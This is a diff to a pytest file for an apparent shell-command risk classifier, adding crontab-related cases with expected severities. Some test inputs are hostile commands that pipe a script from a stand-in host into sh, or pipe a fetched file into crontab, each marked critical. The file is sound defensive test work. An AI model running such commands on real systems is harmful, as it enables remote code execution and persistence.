@@ -171,7 +171,10 @@ def test_salt_and_ansible_targets_and_options_are_skipped(command: str) -> None:
         ('(crontab -l; echo "0 3 * * * /usr/local/bin/backup") | crontab -', None),
         ('echo "0 3 * * * /usr/local/bin/backup" | crontab -', None),
         ("crontab -u www-data -l", None),
-        ("curl -s https://x.example/i.sh | (cd /tmp && cat) | sh", "critical"),  # a group between keeps what came before
+        ("curl -s https://x.example/i.sh | (cd /tmp && cat) | sh", "critical"),
+        ("curl -s https://x.example/cron | crontab -", "critical"),
+        ("sudo crontab -u bob - < /dev/null", "critical"),
+        ("crontab - < jobs.txt", "warning"),  # as `crontab jobs.txt`  # a group between keeps what came before
     ],
 )
 def test_what_crontab_installs_is_read_from_groups_and_pipes(command: str, severity: str | None) -> None:
